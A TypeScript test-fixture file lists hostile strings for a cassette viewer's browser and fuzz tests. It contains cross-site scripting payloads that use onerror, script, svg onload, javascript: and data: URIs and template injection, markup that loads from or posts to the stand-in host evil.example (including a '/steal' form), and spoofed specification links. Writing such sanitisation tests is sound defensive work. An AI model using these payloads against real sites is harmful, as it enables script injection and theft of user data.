/**
 * Strings a cassette someone sent you may carry where the view shows text: markup that runs
 * script if it ever becomes HTML (each sets `window.__pwned` or opens a dialog, so a test sees it
 * run), markup that loads from a foreign origin if it ever becomes an element, and links that are
 * not the spec's. Used by the view's hostile-cassette browser test and the fuzz suite's tampered
 * cassettes.
 */

/** The foreign origin every hostile resource points at (never resolved: a request to it is the
 * failure the tests look for). */
export const EVIL_ORIGIN = 'https://evil.example';

export const HOSTILE_MARKUP: readonly string[] = [
  `<img src=x onerror="window.__pwned='img'">`,
  `<script>window.__pwned='script'</script>`,
  `<svg onload="window.__pwned='svg'"></svg>`,
  `"><img src=x onerror=alert(1)>`,
  `'><script>alert(document.domain)</script>`,
  `<iframe src="javascript:parent.__pwned='iframe'"></iframe>`,
  `<a href="javascript:window.__pwned='anchor'">click</a>`,
  `<img src="${EVIL_ORIGIN}/pixel.png">`,
  `<link rel="stylesheet" href="${EVIL_ORIGIN}/style.css">`,
  `<style>@import url(${EVIL_ORIGIN}/import.css); body{background:url(${EVIL_ORIGIN}/bg.png)}</style>`,
  `<object data="${EVIL_ORIGIN}/object.swf"></object>`,
  `<base href="${EVIL_ORIGIN}/">`,
  `<form action="${EVIL_ORIGIN}/steal"><input name=t></form>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL_ORIGIN}/">`,
  `{{constructor.constructor('window.__pwned="template"')()}}`,
];

/** Violation `spec` values that must never become links. */
export const HOSTILE_SPECS: readonly string[] = [
  `javascript:window.__pwned='spec'`,
  `JaVaScRiPt:window.__pwned='spec-case'`,
  ` \tjavascript:window.__pwned='spec-space'`,
  `java\nscript:window.__pwned='spec-newline'`,
  `data:text/html,<script>window.__pwned='data'</script>`,
  `vbscript:msgbox(1)`,
  `${EVIL_ORIGIN}/specification/2025-11-25/server/tools`,
  `//evil.example/specification/`,
  'https://modelcontextprotocol.io.evil.example/specification/2025-11-25/server/tools',
  'https://modelcontextprotocol.io@evil.example/specification/',
  'https://user:pw@modelcontextprotocol.io/specification/2025-11-25/server/tools',
  'https://modelcontextprotocol.io:8443/specification/',
  'https://github.com/evil/modelcontextprotocol/blob/main/x.mdx',
  'https://github.com/modelcontextprotocol/modelcontextprotocol-evil/x',
  'ftp://modelcontextprotocol.io/specification/',
  `<img src=x onerror="window.__pwned='spec-markup'">`,
];

/** Spec links the view keeps as links: the spec's site and its repository. */
export const SPEC_LINKS: readonly string[] = [
  'https://modelcontextprotocol.io/specification/2025-11-25/server/tools',
  'https://github.com/modelcontextprotocol/modelcontextprotocol/blob/main/docs/specification/2025-11-25/server/tools.mdx',
];
